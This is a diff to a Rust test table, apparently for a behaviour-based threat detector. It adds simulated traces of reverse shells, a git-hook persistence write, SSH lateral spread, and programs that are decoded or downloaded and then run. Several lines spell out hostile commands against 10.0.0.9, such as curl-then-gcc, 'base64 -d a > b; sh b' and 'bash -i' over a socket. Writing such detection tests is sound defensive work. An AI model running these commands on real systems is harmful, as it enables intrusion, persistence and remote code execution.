@@ -34,6 +34,26 @@ pub(super) const SHELLS: &[Row] = &[
         t.event(bash, Kind::StdioSocket { stream: 0, peer: None });
         t.event(bash, Kind::StdioSocket { stream: 1, peer: None });
     }),
+    ("shell-for-network-client", Suspicious, |t| {
+        let node = t.spawn(ROOT, "/usr/bin/node", &["node", "agent.js"]);
+        t.event(node, connect("10.0.0.9", 4444)).ret = Some(-115);
+        let child = t.fork(node);
+        let pairs = vec![StdioKind::Socket { peer: None }; 3];
+        t.event(child, exec("/usr/bin/dash", &["/bin/sh"], pairs));
+    }),
+    ("shell-for-network-client", Suspicious, |t| {
+        let python = t.spawn(ROOT, "/usr/bin/python3.13", &["python3", "x.py"]);
+        t.event(python, connect("10.0.0.9", 443));
+        let child = t.fork(python);
+        t.event(child, exec("/usr/bin/bash", &["bash", "-i"], vec![StdioKind::Pipe; 3]));
+    }),
+    ("command-loop", Suspicious, |t| {
+        let python = t.spawn(ROOT, "/usr/bin/python3.13", &["python3", "x.py"]);
+        for _ in 0..3 {
+            t.event(python, connect("10.0.0.9", 8080));
+            t.spawn(python, "/usr/bin/dash", &["/bin/sh", "-c", "id"]);
+        }
+    }),
     ("shell-behind-pipes", Malicious, |t| {
         let script = shell(t, "true");
         t.event(script, Kind::Mknod { path: "/data/p".into(), mode: 0o010_644 });
@@ -69,6 +89,9 @@ macro_rules! writes {
 }
 
 pub(super) const PERSISTENCE: &[Row] = &[
+    ("repository-hook", Suspicious, |t| {
+        t.event(ROOT, open_new("/home/a/work/.git/hooks/post-checkout"));
+    }),
     writes!("cron-job", "/etc/cron.d/update"),
     writes!("cron-job", "/var/spool/cron/crontabs/sandbox"),
     ("cron-job", Suspicious, |t| runs(t, "crontab -")),
@@ -254,6 +277,11 @@ pub(super) const KERNEL: &[Row] = &[
 ];
 
 pub(super) const NETWORK: &[Row] = &[
+    ("login-spread", Suspicious, |t| {
+        for n in 1..5 {
+            runs(t, &format!("ssh -o BatchMode=yes -o ConnectTimeout=1 root@10.0.0.{n} id"));
+        }
+    }),
     ("port-scan", Suspicious, |t| {
         for port in 1..40 {
             t.failed(ROOT, connect("127.0.0.1", port), ECONNREFUSED);
@@ -291,6 +319,26 @@ pub(super) const NETWORK: &[Row] = &[
 ];
 
 pub(super) const EXECUTION: &[Row] = &[
+    ("decoded-program", Suspicious, |t| {
+        let script = shell(t, "base64 -d a > b; sh b");
+        let decoder = t.fork(script);
+        t.event(decoder, open_new("/data/b"));
+        t.exec(decoder, "/usr/bin/base64", &["base64", "-d", "a"]);
+        t.spawn(script, "/usr/bin/dash", &["sh", "b"]);
+    }),
+    ("decoded-program", Suspicious, |t| {
+        let openssl = t.command(ROOT, "openssl enc -d -base64 -in a -out /tmp/b");
+        t.event(openssl, open_new("/tmp/b"));
+        t.spawn(ROOT, "/tmp/b", &["/tmp/b"]);
+    }),
+    ("compiled-after-delivery", Suspicious, |t| {
+        let curl = t.command(ROOT, "curl -s -o p.c http://10.0.0.9/p.c");
+        t.event(curl, open_new("/data/p.c"));
+        runs(t, "gcc -o p p.c");
+    }),
+    ("hidden-program", Suspicious, |t| {
+        t.spawn(ROOT, "/usr/bin/dash", &["sh", "./invoice.txt "]);
+    }),
     ("download-execute", Suspicious, |t| {
         let curl = t.command(ROOT, "curl -o stage2 http://10.0.0.9/stage2");
         t.event(curl, connect("10.0.0.9", 80));
